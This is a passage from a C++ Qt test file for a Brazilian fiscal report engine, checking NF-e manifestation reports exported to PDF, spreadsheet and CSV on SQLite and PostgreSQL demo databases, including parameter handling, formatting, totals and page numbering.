// The suite's reports as a fiscal department prints them: the five definitions of the
// manifestation module run on a demo company database and on data sets built here, to PDF
// (read back with pdftotext), to .xlsx (the sheet's XML read back) and to CSV; the parameters
// event, a stop in it, a broken or missing definition, and the report base form. The same demo
// database is also built on a throwaway PostgreSQL cluster, where every report must give the
// rows it gives on SQLite.

#include <QComboBox>
#include <QDir>
#include <QElapsedTimer>
#include <QFile>
#include <QLabel>
#include <QMenu>
#include <QPrintPreviewDialog>
#include <QPrintPreviewWidget>
#include <QProcess>
#include <QRegularExpression>
#include <QScopeGuard>
#include <QSqlError>
#include <QSqlQuery>
#include <QSqlRecord>
#include <QTemporaryDir>
#include <QtTest>
#include <memory>

#include "companydb.h"
#include "core/clientdataset.h"
#include "core/messages.h"
#include "core/orvanta.h"
#include "forms/frmdadosgerrel.h"
#include "report/reportengine.h"
#include "report/reportexport.h"
#include "report/reportformat.h"
#include "report/reportresult.h"
#include "rules.h"
#include "sql/databasemodule.h"
#include "store.h"
#include "support/pgcluster.h"
#include "support/scripteddialogs.h"
#include "ui/buttonflat.h"
#include "ui/consiste.h"

using namespace host;
using host::test::ScriptedDialogs;

namespace {

const QString kArqRelErr = QStringLiteral(
    "O arquivo contendo a definição do relatório de código '%s' não foi encontrado no "
    "diretório '%s'.");

QString pdfText(const QString& file) {
    QProcess p;
    p.start(QStringLiteral("pdftotext"), {QStringLiteral("-layout"), file, QStringLiteral("-")});
    if (!p.waitForFinished(60000) || p.exitCode() != 0) {
        return {};
    }
    return QString::fromUtf8(p.readAllStandardOutput());
}

int pdfPages(const QString& file) {
    QProcess p;
    p.start(QStringLiteral("pdfinfo"), {file});
    p.waitForFinished(60000);
    const QRegularExpression re(QStringLiteral("Pages:\\s+(\\d+)"));
    const auto m = re.match(QString::fromUtf8(p.readAllStandardOutput()));
    return m.hasMatch() ? m.captured(1).toInt() : -1;
}

QByteArray unzipped(const QString& file, const QString& member) {
    QProcess p;
    p.start(QStringLiteral("unzip"), {QStringLiteral("-p"), file, member});
    p.waitForFinished(60000);
    return p.readAllStandardOutput();
}

QStringList filesIn(const QString& dir) {
    return QDir(dir).entryList(QDir::Files | QDir::Hidden);
}

// Every declared parameter as "any value", company 01, dates over the demo data's spread.
void allCriteria(TReportParams& params) {
    for (const QString& n : params.Names()) {
        if (params.IsDate(n)) {
            params.ParamByName(n).SetAsDate(n == u"P_DTINICIAL" ? QDate::currentDate().addDays(-400)
                                                                : QDate::currentDate().addDays(2));
        } else {
            params.ParamByName(n).SetAsString(QStringLiteral("T"));
        }
    }
    if (ExistParam(params, QStringLiteral("P_CDEMPRESA"))) {
        params.ParamByName(QStringLiteral("P_CDEMPRESA")).SetAsString(QStringLiteral("01"));
    }
}

QList<QVariantList> rowsOf(const QString& sql) {
    QSqlQuery q(DatabaseModule::instance().database());
    if (!q.exec(sql)) {
        qWarning("%s: %s", qPrintable(sql), qPrintable(q.lastError().text()));
    }
    QList<QVariantList> out;
    while (q.next()) {
        QVariantList row;
        for (int i = 0; i < q.record().count(); ++i) {
            row << q.value(i);
        }
        out << row;
    }
    return out;
}

QString brl(double v) {
    return reportformat::money(v);
}

// The fields of the workspace's copy of the list of notes (dtsNotasDestinadas).
void createNotesList(TClientDataSet& ds) {
    for (const char* f : {"IDNOTA", "NRNOTAFISC", "NMRAZSOCEMIT", "NRINSJURNFORIG", "CDSERIE",
                          "CDFILIAL", "NRLANCTONF", "IDSTATUSMANIF"}) {
        ds.AddField({QLatin1String(f), FieldType::String, 250, false});
    }
    ds.AddField({QStringLiteral("DTEMISSAO"), FieldType::DateTime, 0, false});
    ds.AddField({QStringLiteral("VRNOTAFISC"), FieldType::Float, 0, false});
    ds.CreateDataSet();
}

// Adds a note without a numeric number (kept as "S/N") whose issuer came without a name: a copy
// of the latest open note of company 01, with the same issue and authorisation moments, so every
// report's ordering meets an empty number and an empty name among otherwise equal keys. An
// empty string, or what went wrong.
QString addNoteWithoutNumberOrName(const QString& url) {
    DatabaseModule module(url);
    QSqlDatabase db = module.database();
    QSqlQuery q(db);
    if (!q.exec(QStringLiteral("SELECT * FROM NOTADEST WHERE 1 = 0"))) {
        return q.lastError().text();
    }
    const QSqlRecord record = q.record();
    QStringList columns, values;
    for (int i = 0; i < record.count(); ++i) {
        const QString name = record.fieldName(i).toUpper();
        columns << name;
        if (name == u"NRACESSONF") {
            values << QStringLiteral("'%1'").arg(QString(44, u'9'));
        } else if (name == u"NRNOTAFISC") {
            values << QStringLiteral("'S/N'");
        } else if (name == u"NRNOTANUM") {
            values << QStringLiteral("CAST(NULL AS BIGINT)");
        } else if (name == u"NMRAZSOCEMIT") {
            values << QStringLiteral("CAST(NULL AS VARCHAR(250))");
        } else {
            values << name;
        }
    }
    if (!q.exec(QStringLiteral(
                    "INSERT INTO NOTADEST (%1) SELECT %2 FROM NOTADEST WHERE CDEMPRESA = '01' AND "
                    "NRACESSONF = (SELECT NRACESSONF FROM NOTADEST WHERE CDEMPRESA = '01' AND "
                    "IDSTATUSNFE = '1' AND IDSTATUSMANIF IN ('0', '4') AND DTRECBTO IS NOT NULL "
                    "ORDER BY DTEMISSAO DESC, NRACESSONF LIMIT 1)")
                    .arg(columns.join(QStringLiteral(", ")), values.join(QStringLiteral(", "))))) {
        return q.lastError().text();
    }
    return q.numRowsAffected() == 1 ? QString() : QStringLiteral("nenhuma nota copiada");
}

// A database of the cluster whose texts sort in Portuguese (ICU's pt-BR) when the server was
// built with ICU; else one with the cluster's own collation. Its URL, or an empty string.
QString createBrazilianDatabase(PgCluster& pg, const QString& name) {
    bool created = false;
    {
        DatabaseModule admin(pg.url());
        QSqlQuery q(admin.database());
        created = q.exec(QStringLiteral("CREATE DATABASE %1 TEMPLATE template0 ENCODING 'UTF8' "
                                        "LOCALE_PROVIDER icu ICU_LOCALE 'pt-BR'")
                             .arg(name));
        if (!created) {
            qInfo("PostgreSQL sem ICU (%s): a base usa a ordenação do cluster",
                  qPrintable(q.lastError().text()));
        }
    }
    return created ? pg.url(name) : pg.createDatabase(name);
}

// A value as both dialects must agree on it, whatever type the driver hands over.
QString canonical(const QVariant& v) {
    if (!v.isValid() || v.isNull()) {
        return QStringLiteral("<nulo>");
    }
    switch (v.typeId()) {
        case QMetaType::QDate:
            return v.toDate().toString(Qt::ISODate);
        case QMetaType::QDateTime:
            return v.toDateTime().toString(QStringLiteral("yyyy-MM-dd HH:mm:ss.zzz"));
        case QMetaType::Double:
            return QString::number(v.toDouble(), 'f', 2);
        default:
            return v.toString();
    }
}

// Each row of a section: every field it read, then every cell as printed.
QStringList sectionRows(const ReportResult& r, int section) {
    const ReportSectionData& data = r.sections[size_t(section)];
    const int columns = int(r.definition.sections[section].columns.size());
    QStringList out;
    for (int row = 0; row < data.rowCount(); ++row) {
        QStringList cells;
        for (int f = 0; f < data.fields.size(); ++f) {
            cells << canonical(data.value(row, f));
        }
        cells << QStringLiteral("|");
        for (int c = 0; c < columns; ++c) {
            cells << r.cellText(section, row, c);
        }
        out << cells.join(u'|');
    }
    return out;
}

}  // namespace

class TestReports : public QObject {
    Q_OBJECT

  private slots:
    void initTestCase();
    void init();

    void valuesPrintInTheBrazilianWay();
    void parametersEventSeesWhatTheDefinitionDeclares();
    void aStopInTheParametersEventLeavesNoFile();
    void aParameterLeftUnsetIsNamed();
    void brokenDefinitionsAreRefusedClearly();
    void dateParametersCompareByDayWhateverTheHandlerSet();
    void criteriaNarrowTheNotes();

    void notesByCriteriaPrintTheirRowsAndTotals();
    void notesByManifestationSituationHaveSubtotals();
    void notesByIssuerGroupUnderTheMaskedRegistration();
    void synchronisationSummaryReadsTheDataSets();
    void openNotesComeSoonestDeadlineFirst();

    void previewShowsTheSamePagesAsThePdf();
    void spreadsheetCellsAreTyped();
    void csvOpensInABrazilianSpreadsheet();
    void textsThatLookLikeFormulasStayTexts();
    void cancelledExportsLeaveNoFile();

    void reportsGiveTheSameRowsOnPostgres_data();
    void reportsGiveTheSameRowsOnPostgres();

    void baseFormListsTheDefinitionsAndSavesThroughTheSeam();
    void missingDefinitionStopsWithTheFormsMessage();

    void cleanupTestCase();

  private:
    QString file(const QString& name) const { return m_out.filePath(name); }
    void addDataSets(TReportDesignerDialog& engine);

    QTemporaryDir m_dir;
    QDir m_out;
    QString m_sqliteUrl;
    // The same demo database on PostgreSQL, made once for the whole program.
    std::unique_ptr<PgCluster> m_pg;
    QString m_pgUrl;
    TClientDataSet m_contaNotas;
    TClientDataSet m_notas;
};

void TestReports::initTestCase() {
    QLocale::setDefault(QLocale(QLocale::Portuguese, QLocale::Brazil));
    QVERIFY(m_dir.isValid());
    // ORVANTA_KEEP_TEST_FILES=1 leaves the reports written for a look after a failure.
    m_dir.setAutoRemove(!qEnvironmentVariableIsSet("ORVANTA_KEEP_TEST_FILES"));
    m_sqliteUrl = QStringLiteral("sqlite:") + m_dir.filePath(QStringLiteral("empresa.db"));
    companydb::ensureDatabase(m_sqliteUrl, 800, {dfe58000::storeSchema()});
    QCOMPARE(addNoteWithoutNumberOrName(m_sqliteUrl), QString());
    DatabaseModule::Open(m_sqliteUrl);

    // The demo notes depend on the day they are made: both databases are made together.
    QElapsedTimer clock;
    clock.start();
    m_pg = std::make_unique<PgCluster>();
    const qint64 started = clock.elapsed();
    if (m_pg->ok()) {
        // A Brazilian company's server sorts texts in Portuguese, not byte by byte as SQLite
        // does: the database gets that collation when the server has ICU.
        m_pgUrl = createBrazilianDatabase(*m_pg, QStringLiteral("empresa"));
        QVERIFY2(!m_pgUrl.isEmpty(), qPrintable(m_pg->error()));
        companydb::ensureDatabase(m_pgUrl, 800, {dfe58000::storeSchema()});
        QCOMPARE(addNoteWithoutNumberOrName(m_pgUrl), QString());
        qInfo("PostgreSQL: cluster em %lld ms, base de demonstração em %lld ms", started,
              clock.elapsed() - started);
    }
    LoginContext ctx;
    ctx.operador = QStringLiteral("JOÃO");
    ctx.reportDir = QStringLiteral(ORVANTA_SOURCE_DIR "/reports");
    Orvanta::setContext(ctx);

    // The workspace's synchronisation counts and its copy of the list, as the module hands
    // them to the report form.
    m_contaNotas.AddField({QStringLiteral("IDNOTA"), FieldType::String, 1, false});
    m_contaNotas.AddField({QStringLiteral("Quantidade"), FieldType::String, 10, false});
    m_contaNotas.CreateDataSet();
    for (auto [group, count] :
         {std::pair{"1", "3"}, std::pair{"2", "120"}, std::pair{"4", "7"}, std::pair{"5", "2"}}) {
        m_contaNotas.Append();
        m_contaNotas.FieldByName(QStringLiteral("IDNOTA")).SetAsString(QLatin1String(group));
        m_contaNotas.FieldByName(QStringLiteral("Quantidade")).SetAsString(QLatin1String(count));
        m_contaNotas.Post();
    }
    createNotesList(m_notas);
    struct Nota {
        const char* grupo;
        const char* numero;
        const char* nome;
        const char* inscricao;
        double valor;
    };
    for (const Nota& n : {Nota{"2", "000000011", "Açúcar União Ltda", "AB12CD34000195", 1500.25},
                          Nota{"1", "000000012", "Pão; Café \"Bom\"", "12345678909", 99.9},
                          Nota{"2", "000000013", "Ferragens São José", "48210375000102", 10.0},
                          Nota{"5", "000000014", "Oculta pelo filtro", "48210375000102", 1e6}}) {
        m_notas.Append();
        m_notas.FieldByName(QStringLiteral("IDNOTA")).SetAsString(QLatin1String(n.grupo));
        m_notas.FieldByName(QStringLiteral("NRNOTAFISC")).SetAsString(QLatin1String(n.numero));
        m_notas.FieldByName(QStringLiteral("NMRAZSOCEMIT")).SetAsString(QString::fromUtf8(n.nome));
        m_notas.FieldByName(QStringLiteral("NRINSJURNFORIG"))
            .SetAsString(QLatin1String(n.inscricao));
        m_notas.FieldByName(QStringLiteral("CDSERIE")).SetAsString(QStringLiteral("1"));
        m_notas.FieldByName(QStringLiteral("IDSTATUSMANIF")).SetAsString(QStringLiteral("4"));
        m_notas.FieldByName(QStringLiteral("DTEMISSAO"))
            .SetAsDateTime(QDateTime(QDate(2026, 11, 30), QTime(23, 59)));
        m_notas.FieldByName(QStringLiteral("VRNOTAFISC")).SetAsFloat(n.valor);
        m_notas.Post();
    }
    m_notas.SetFilter(QStringLiteral("IDNOTA <> '5'"));
    m_notas.SetFiltered(true);
    m_notas.First();
}

void TestReports::init() {
    m_out.setPath(m_dir.filePath(QString::fromLatin1(QTest::currentTestFunction())));
    QDir().mkpath(m_out.path());
}

void TestReports::addDataSets(TReportDesignerDialog& engine) {
    engine.AddDataSet(QStringLiteral("dtsContaNotas"), &m_contaNotas);
    engine.AddDataSet(QStringLiteral("dtsNotasDestinadas"), &m_notas);
}

void TestReports::valuesPrintInTheBrazilianWay() {
    QCOMPARE(reportformat::money(1234.5), QStringLiteral("1.234,50"));
    QCOMPARE(reportformat::money(-0.004), QStringLiteral("-0,00"));
    QCOMPARE(reportformat::moneyPlain(1234567.891), QStringLiteral("1234567,89"));
    QCOMPARE(reportformat::registration(QStringLiteral("48210375000102"), QStringLiteral("J")),
             QStringLiteral("48.210.375/0001-02"));
    // Letters in the first twelve positions only: the check digits are digits.
    QCOMPARE(reportformat::registration(QStringLiteral("ab12cd34000195")),
             QStringLiteral("AB.12C.D34/0001-95"));
    QCOMPARE(reportformat::registration(QStringLiteral("AB12CD340001A9")),
             QStringLiteral("AB12CD340001A9"));
    QCOMPARE(reportformat::registration(QStringLiteral("12345678909")),
             QStringLiteral("123.456.789-09"));
    // A CPF kept in a 14-character field (zero-padded) follows the kind, not the length.
    QCOMPARE(reportformat::registration(QStringLiteral("12345678909"), QStringLiteral("F")),
             QStringLiteral("123.456.789-09"));
    QCOMPARE(reportformat::registration(QStringLiteral("1234"), QStringLiteral("J")),
             QStringLiteral("1234"));
    const QDateTime stored = reportformat::toDateTime(QStringLiteral("2026-06-01 23:59:58.123"));
    QCOMPARE(stored.date(), QDate(2026, 6, 1));
    QCOMPARE(stored.time(), QTime(23, 59, 58, 123));
    QVERIFY(!reportformat::toDateTime(QStringLiteral("01/06/2026")).isValid());
}

void TestReports::parametersEventSeesWhatTheDefinitionDeclares() {
    TReportDesignerDialog engine;
    QStringList declared301, declared303;
    bool dateFlag = false;
    engine.BeforeGetQueryParams = [&](TReportParams& params, bool& doCancel) {
        (ExistParam(params, QStringLiteral("p_idstatusnfenf")) ? declared301 : declared303) =
            params.Names();
        dateFlag = params.IsDate(QStringLiteral("P_DTFINAL")) &&
                   !params.IsDate(QStringLiteral("P_CDEMPRESA"));
        QVERIFY_THROWS_EXCEPTION(EProgrammingError,
                                 params.ParamByName(QStringLiteral("P_NAO_EXISTE")));
        doCancel = true;
    };
    QVERIFY(!engine.Execute(QStringLiteral("DFE58301"), ReportOutput::Pdf, file("a.pdf")));
    QVERIFY(!engine.Execute(QStringLiteral("DFE58303"), ReportOutput::Pdf, file("b.pdf")));
    QVERIFY(filesIn(m_out.path()).isEmpty());
    QVERIFY(dateFlag);
    for (const char* name :
         {"P_CDEMPRESA", "P_NRINSJURIEST", "P_CDINSCESTA", "P_CDFILIORIG", "P_CDSERIE",
          "P_IDORIGDESTNF", "P_CDCLIENTE", "P_CDFORNECED", "P_CDFILIAL", "P_DTINICIAL", "P_DTFINAL",
          "P_IDENTRSAIDOP", "P_IDENTRSAIDNF", "P_CDTIPOOPER", "P_IDSTATUSNFE", "P_IDSTATUSNFENF",
          "P_IDSTATUSMANIF", "P_NRACESSONFE"}) {
        QVERIFY2(declared301.contains(QLatin1String(name)), name);
    }
    QCOMPARE(declared301.size(), 18);
    QVERIFY(!declared303.isEmpty());
    for (const char* name : {"P_IDSTATUSNFE", "P_IDSTATUSNFENF", "P_IDSTATUSMANIF"}) {
        QVERIFY2(!declared303.contains(QLatin1String(name)), name);
    }

    TReportParams own;
    own.Declare(QStringLiteral("P_X"), false);
    own.Declare(QStringLiteral("p_x"), true);  // the first declaration stays
    QCOMPARE(own.Count(), 1);
    QVERIFY(!own.IsDate(QStringLiteral("P_X")));
    QVERIFY(ExistParam(own, QStringLiteral("p_X")));
    QVERIFY(!ExistParam(own, QStringLiteral("P_Y")));
}

void TestReports::aStopInTheParametersEventLeavesNoFile() {
    ScriptedDialogs dlg;
    TReportDesignerDialog engine;
    engine.BeforeGetQueryParams = [](TReportParams&, bool&) {
        Consiste::MensErro(QStringLiteral("Informe a data inicial."));
    };
    for (ReportOutput out : {ReportOutput::Pdf, ReportOutput::Xlsx, ReportOutput::Csv}) {
        dlg.expectError(QStringLiteral("Informe a data inicial."));
        QVERIFY_THROWS_EXCEPTION(
            EStop, engine.Execute(QStringLiteral("DFE58301"), out, file("relatorio")));
    }
    dlg.expectError(QStringLiteral("Informe a data inicial."));
    QVERIFY_THROWS_EXCEPTION(EStop, engine.Fetch(QStringLiteral("DFE58302")));
    QVERIFY(filesIn(m_out.path()).isEmpty());
    QVERIFY_DIALOGS(dlg);
}

void TestReports::aParameterLeftUnsetIsNamed() {
    TReportDesignerDialog engine;
    engine.BeforeGetQueryParams = [](TReportParams& params, bool&) {
        allCriteria(params);
        params.ParamByName(QStringLiteral("P_CDSERIE")).Unassign();
    };
    try {
        engine.Execute(QStringLiteral("DFE58301"), ReportOutput::Pdf, file("x.pdf"));
        QFAIL("a report ran with a parameter unset");
    } catch (const EHostError& e) {
        QVERIFY2(e.text().contains(QStringLiteral("P_CDSERIE")), qPrintable(e.text()));
    }
    QVERIFY(filesIn(m_out.path()).isEmpty());
}

void TestReports::brokenDefinitionsAreRefusedClearly() {
    QFile::copy(QStringLiteral(ORVANTA_SOURCE_DIR "/reports/DFE58301.json"), file("TST00101.json"));
    const QList<QPair<QString, QString>> broken = {
        {QStringLiteral("{\"title\": \"Sem fim\""), QStringLiteral("JSON malformado")},
        {QStringLiteral("{\"title\": \"X\", \"sections\": []}"), QStringLiteral("seções")},
        {QStringLiteral("{\"title\": \"X\", \"sections\": [{\"dataset\": \"d\", \"columns\": "
                        "[{\"field\": \"A\", \"format\": \"moeda\"}]}]}"),
         QStringLiteral("moeda")},
        {QStringLiteral("{\"title\": \"X\", \"sections\": [{\"sql\": {\"sqlite\": \"SELECT 1\"},"
                        " \"columns\": [{\"field\": \"A\"}]}]}"),
         QStringLiteral("postgres")},
        {QStringLiteral("{\"title\": \"X\", \"parameters\": [{\"name\": \"P\", \"type\": "
                        "\"int\"}], \"sections\": [{\"dataset\": \"d\", \"columns\": [{\"field\":"
                        " \"A\"}]}]}"),
         QStringLiteral("int")},
        {QStringLiteral("{\"title\": \"X\", \"sections\": [{\"dataset\": \"d\", \"columns\": "
                        "[{\"field\": \"A\"}], \"totals\": {\"sums\": [\"B\"]}}]}"),
         QStringLiteral("B")},
    };
    TReportDesignerDialog engine;
    engine.SetReportDir(m_out.path());
    for (int i = 0; i < broken.size(); ++i) {
        const QString code = QStringLiteral("TST0020%1").arg(i);
        QFile f(file(code + QStringLiteral(".json")));
        QVERIFY(f.open(QIODevice::WriteOnly));
        f.write(broken[i].first.toUtf8());
        f.close();
        try {
            engine.Fetch(code);
            QFAIL(qPrintable(QStringLiteral("accepted: %1").arg(broken[i].first)));
        } catch (const EHostError& e) {
            QVERIFY2(e.text().contains(code) && e.text().contains(broken[i].second),
                     qPrintable(e.text()));
        }
    }
    // The catalogue offers the sound definitions only, in code order.
    const auto entries = engine.Catalogue(QStringLiteral("TST00"));
    QCOMPARE(entries.size(), 1);
    QCOMPARE(entries[0].code, QStringLiteral("TST00101"));
    QCOMPARE(entries[0].title, QStringLiteral("Notas Destinadas por Critério"));
}

void TestReports::dateParametersCompareByDayWhateverTheHandlerSet() {
    // The day of the company's first note: a date-time at 23:59 on it and on the day after
    // must still take every note of both days.
    const QList<QVariantList> first = rowsOf(
        QStringLiteral("SELECT substr(DTEMISSAO, 1, 10) FROM NOTADEST WHERE CDEMPRESA = '01' "
                       "ORDER BY DTEMISSAO LIMIT 1"));
    QVERIFY(!first.isEmpty());
    const QDate day = QDate::fromString(first[0][0].toString(), Qt::ISODate);
    const int expected =
        rowsOf(QStringLiteral("SELECT COUNT(*) FROM NOTADEST WHERE CDEMPRESA = '01' AND "
                              "substr(DTEMISSAO, 1, 10) IN ('%1', '%2')")
                   .arg(day.toString(Qt::ISODate), day.addDays(1).toString(Qt::ISODate)))[0][0]
            .toInt();
    QVERIFY(expected > 0);
    TReportDesignerDialog engine;
    engine.BeforeGetQueryParams = [&](TReportParams& params, bool&) {
        allCriteria(params);
        params.ParamByName(QStringLiteral("P_DTINICIAL"))
            .SetAsDateTime(QDateTime(day, QTime(23, 59)));
        params.ParamByName(QStringLiteral("P_DTFINAL"))
            .SetAsDateTime(QDateTime(day.addDays(1), QTime(0, 1)));
    };
    const auto r = engine.Fetch(QStringLiteral("DFE58301"));
    QCOMPARE(r->rowCount(), expected);
    QVERIFY2(r->criteria.contains(QStringLiteral("Emissão: %1 a %2")
                                      .arg(day.toString(QStringLiteral("dd/MM/yyyy")),
                                           day.addDays(1).toString(QStringLiteral("dd/MM/yyyy")))),
             qPrintable(r->criteria));
}

void TestReports::criteriaNarrowTheNotes() {
    // Suppliers' notes, two operation types, situations Authorised/Cancelled, manifestation
    // Confirmed or Ciência: the same notes the plain query finds.
    const QList<QVariantList> types = rowsOf(
        QStringLiteral("SELECT CDTIPOOPER FROM NOTADEST WHERE CDEMPRESA = '01' GROUP BY CDTIPOOPER "
                       "ORDER BY COUNT(*) DESC LIMIT 2"));
    QCOMPARE(types.size(), 2);
    const QString list = types[0][0].toString() + u',' + types[1][0].toString();
    const int expected =
        rowsOf(QStringLiteral("SELECT COUNT(*) FROM NOTADEST WHERE CDEMPRESA = '01' AND "
                              "IDORIGEMIT = 'F' AND CDTIPOOPER IN ('%1', '%2') AND "
                              "IDSTATUSNFE IN ('1', '3') AND IDSTATUSMANIF IN ('1', '4')")
                   .arg(types[0][0].toString(), types[1][0].toString()))[0][0]
            .toInt();
    QVERIFY(expected > 0);
    TReportDesignerDialog engine;
    engine.BeforeGetQueryParams = [&](TReportParams& params, bool&) {
        allCriteria(params);
        params.ParamByName(QStringLiteral("P_IDORIGDESTNF")).SetAsString(QStringLiteral("F"));
        params.ParamByName(QStringLiteral("P_CDTIPOOPER")).SetAsString(list);
        params.ParamByName(QStringLiteral("P_IDSTATUSNFE")).SetAsString(QStringLiteral("_1_3_"));
        params.ParamByName(QStringLiteral("P_IDSTATUSNFENF")).SetAsString(QStringLiteral("_A_C_"));
        params.ParamByName(QStringLiteral("P_IDSTATUSMANIF")).SetAsString(QStringLiteral("_1_4_"));
    };
    auto r = engine.Fetch(QStringLiteral("DFE58301"));
    QCOMPARE(r->rowCount(), expected);
    QVERIFY2(r->criteria.contains(QStringLiteral("Situação da NF-e: Autorizada, Cancelada")),
             qPrintable(r->criteria));
    QVERIFY(r->criteria.contains(QStringLiteral("Manifestação: Confirmada, Ciência da Operação")));
    QVERIFY(r->criteria.contains(QStringLiteral("Emitente: Fornecedores")));
    QVERIFY(r->criteria.contains(QStringLiteral("Tipos de operação: ") + list));
    QVERIFY(r->criteria.contains(QStringLiteral("Série: Todas")));

    // One issuer of them by its code: only its notes.
    const QList<QVariantList> issuer = rowsOf(QStringLiteral(
        "SELECT CDEMITENTE, COUNT(*) FROM NOTADEST WHERE CDEMPRESA = '01' AND IDORIGEMIT = 'F' "
        "GROUP BY CDEMITENTE ORDER BY COUNT(*) DESC LIMIT 1"));
    engine.BeforeGetQueryParams = [&](TReportParams& params, bool&) {
        allCriteria(params);
        params.ParamByName(QStringLiteral("P_IDORIGDESTNF")).SetAsString(QStringLiteral("F"));
        for (const char* p : {"P_CDCLIENTE", "P_CDFORNECED", "P_CDFILIAL"}) {
            params.ParamByName(QLatin1String(p)).SetAsString(issuer[0][0].toString());
        }
    };
    r = engine.Fetch(QStringLiteral("DFE58301"));
    QCOMPARE(r->rowCount(), issuer[0][1].toInt());
}

void TestReports::notesByCriteriaPrintTheirRowsAndTotals() {
    TReportDesignerDialog engine;
    engine.BeforeGetQueryParams = [](TReportParams& params, bool&) { allCriteria(params); };
    const QString pdf = file("DFE58301.pdf");
    QVERIFY(engine.Execute(QStringLiteral("DFE58301"), ReportOutput::Pdf, pdf));
    const QString text = pdfText(pdf);
    QVERIFY(!text.isEmpty());

    const QList<QVariantList> totals = rowsOf(
        QStringLiteral("SELECT COUNT(*), SUM(VRNOTAFISC) FROM NOTADEST WHERE CDEMPRESA = '01'"));
    const int count = totals[0][0].toInt();
    QVERIFY(count > 40);  // more than one page
    QVERIFY(text.contains(QStringLiteral("Notas Destinadas por Critério")));
    QVERIFY(text.contains(QStringLiteral("Empresa: 01;")));
    QVERIFY(text.contains(QStringLiteral("Situação da NF-e: Todas")));
    QVERIFY(text.contains(QStringLiteral("Impresso em ")));
    QVERIFY(text.contains(QStringLiteral(" por JOÃO")));
    QVERIFY2(text.contains(QStringLiteral("Total geral (%1 registros)").arg(count)),
             qPrintable(text.right(800)));
    QVERIFY(text.contains(brl(totals[0][1].toDouble())));
    const int pages = pdfPages(pdf);
    QVERIFY(pages > 1);
    QVERIFY(text.contains(QStringLiteral("Página 1 de %1").arg(pages)));
    QVERIFY(text.contains(QStringLiteral("Página %1 de %1").arg(pages)));

    // The first notes in issue order, with their masked registration and situations.
    const QList<QVariantList> first = rowsOf(QStringLiteral(
        "SELECT NRNOTAFISC, NRINSJURNFORIG, IDTPIJUREMIT, VRNOTAFISC, DTEMISSAO FROM NOTADEST "
        "WHERE CDEMPRESA = '01' ORDER BY DTEMISSAO, NRNOTANUM LIMIT 3"));
    for (const QVariantList& row : first) {
        const QString masked = reportformat::registration(row[1].toString(), row[2].toString());
        const QRegularExpression line(
            QStringLiteral("%1\\s+%2\\s.*%3\\s.*%4")
                .arg(QRegularExpression::escape(
                         QDate::fromString(row[4].toString().left(10), Qt::ISODate)
                             .toString(QStringLiteral("dd/MM/yyyy"))),
                     row[0].toString(), QRegularExpression::escape(masked),
                     QRegularExpression::escape(brl(row[3].toDouble()))));
        QVERIFY2(line.match(text).hasMatch(), qPrintable(row[0].toString()));
    }
}

void TestReports::notesByManifestationSituationHaveSubtotals() {
    TReportDesignerDialog engine;
    engine.BeforeGetQueryParams = [](TReportParams& params, bool&) { allCriteria(params); };
    const QString pdf = file("DFE58302.pdf");
    QVERIFY(engine.Execute(QStringLiteral("DFE58302"), ReportOutput::Pdf, pdf));
    const QString text = pdfText(pdf);
    QVERIFY(text.contains(QStringLiteral("Notas por Situação da Manifestação")));
    const QHash<QString, QString> names = {{"0", "Sem Manifestação"},    {"1", "Confirmada"},
                                           {"2", "Desconhecida"},        {"3", "Não Realizada"},
                                           {"4", "Ciência da Operação"}, {"5", "Rejeitada"}};
    const QList<QVariantList> groups = rowsOf(QStringLiteral(
        "SELECT IDSTATUSMANIF, COUNT(*), SUM(VRNOTAFISC) FROM NOTADEST WHERE CDEMPRESA = '01' "
        "GROUP BY IDSTATUSMANIF ORDER BY IDSTATUSMANIF"));
    QVERIFY(groups.size() >= 4);
    int total = 0;
    qsizetype last = -1;
    for (const QVariantList& g : groups) {
        const QString name = names.value(g[0].toString());
        total += g[1].toInt();
        QVERIFY2(text.contains(QStringLiteral("Situação da manifestação: ") + name),
                 qPrintable(name));
        const QRegularExpression sub(QStringLiteral("Total de %1 \\(%2 registros?\\)\\s+%3")
                                         .arg(QRegularExpression::escape(name))
                                         .arg(g[1].toInt())
                                         .arg(QRegularExpression::escape(brl(g[2].toDouble()))));
        const auto m = sub.match(text);
        QVERIFY2(m.hasMatch(), qPrintable(name));
        QVERIFY(m.capturedStart() > last);  // in code order
        last = m.capturedStart();
    }
    QVERIFY(text.contains(QStringLiteral("Total geral (%1 registros)").arg(total)));
}

void TestReports::notesByIssuerGroupUnderTheMaskedRegistration() {
    TReportDesignerDialog engine;
    engine.BeforeGetQueryParams = [](TReportParams& params, bool&) { allCriteria(params); };
    const QString pdf = file("DFE58303.pdf");
    QVERIFY(engine.Execute(QStringLiteral("DFE58303"), ReportOutput::Pdf, pdf));
    const QString text = pdfText(pdf);
    QVERIFY(text.contains(QStringLiteral("Notas por Emitente e Período")));
    const QList<QVariantList> top = rowsOf(QStringLiteral(
        "SELECT NRINSJURNFORIG, IDTPIJUREMIT, NMRAZSOCEMIT, COUNT(*), SUM(VRNOTAFISC) "
        "FROM NOTADEST WHERE CDEMPRESA = '01' GROUP BY NRINSJURNFORIG, IDTPIJUREMIT, "
        "NMRAZSOCEMIT ORDER BY COUNT(*) DESC LIMIT 3"));
    for (const QVariantList& g : top) {
        const QString title = reportformat::registration(g[0].toString(), g[1].toString()) +
                              QStringLiteral(" - ") + g[2].toString();
        QVERIFY2(text.contains(QStringLiteral("Emitente: ") + title), qPrintable(title));
        QVERIFY2(
            text.contains(QStringLiteral("Total de %1 (%2 registro").arg(title).arg(g[3].toInt())),
            qPrintable(title));
    }
    QVERIFY(!text.contains(QStringLiteral("Situação da NF-e:")));  // not among its criteria
}

void TestReports::synchronisationSummaryReadsTheDataSets() {
    TReportDesignerDialog engine;
    addDataSets(engine);
    engine.BeforeGetQueryParams = [](TReportParams& params, bool&) {
        QCOMPARE(params.Names(), (QStringList{"P_DTINICIAL", "P_DTFINAL", "P_IDENTRSAIDOP"}));
        params.ParamByName(QStringLiteral("P_DTINICIAL")).SetAsDate(QDate(2026, 11, 1));
        params.ParamByName(QStringLiteral("P_DTFINAL")).SetAsDate(QDate(2026, 11, 30));
        params.ParamByName(QStringLiteral("P_IDENTRSAIDOP")).SetAsString(QStringLiteral("E"));
    };
    m_notas.Last();
    const int cursor = m_notas.RecNo();
    const QString pdf = file("DFE58304.pdf");
    QVERIFY(engine.Execute(QStringLiteral("DFE58304"), ReportOutput::Pdf, pdf));
    QCOMPARE(m_notas.RecNo(), cursor);  // the list's cursor stays where the clerk left it
    const QString text = pdfText(pdf);
    QVERIFY(text.contains(QStringLiteral("Resumo da Sincronização")));
